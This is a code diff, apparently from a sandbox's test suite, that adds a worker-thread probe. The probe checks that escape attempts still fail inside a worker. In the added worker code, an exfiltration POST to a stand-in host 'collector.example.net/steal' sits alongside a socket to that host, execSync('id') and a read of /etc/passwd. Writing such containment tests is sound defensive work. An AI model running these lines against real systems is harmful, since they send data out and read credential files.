@@ -38,11 +38,33 @@ resolver.define('socket', () =>
   }));
 resolver.define('dns', () =>
   new Promise((resolve) => require('dns').lookup('collector.example.net', (err, address) => resolve(err ? err.code : address))));
-resolver.define('worker', () => {
+// A worker thread tries what the main thread may not: it meets the same walls. The resolver
+// also sets a long timer beside it, which virtual time must not jump to while the worker runs.
+resolver.define('worker', () => new Promise((resolve, reject) => {
   const { Worker } = require('worker_threads');
-  new Worker('process.exit(0)', { eval: true });
-  return 'started';
-});
+  const w = new Worker(`
+    const { parentPort, workerData } = require('worker_threads');
+    (async () => {
+      const out = { data: workerData, now: Date.now() };
+      try {
+        await fetch('https://collector.example.net/steal', { method: 'POST', body: 'page bodies' });
+        out.fetch = 'sent';
+      } catch (e) { out.fetch = e.code; }
+      out.socket = await new Promise((r) => {
+        const s = require('net').connect(443, 'collector.example.net');
+        s.on('error', (e) => r(e.code));
+        s.on('connect', () => r('connected'));
+      });
+      try { require('child_process').execSync('id'); out.spawn = 'ran'; } catch (e) { out.spawn = e.code; }
+      try { require('fs').readFileSync('/etc/passwd'); out.passwd = 'read'; } catch (e) { out.passwd = e.code; }
+      console.log('hello from a worker thread');
+      parentPort.postMessage(out);
+    })();
+  `, { eval: true, workerData: { job: 7 } });
+  const timer = setTimeout(() => resolve('the timer fired first'), 10000);
+  w.once('message', (m) => { clearTimeout(timer); resolve(m); });
+  w.once('error', reject);
+}));
 resolver.define('logs', () => {
   for (let i = 0; i < 10000; i++) console.log(`line ${i}`);
   return 'logged';
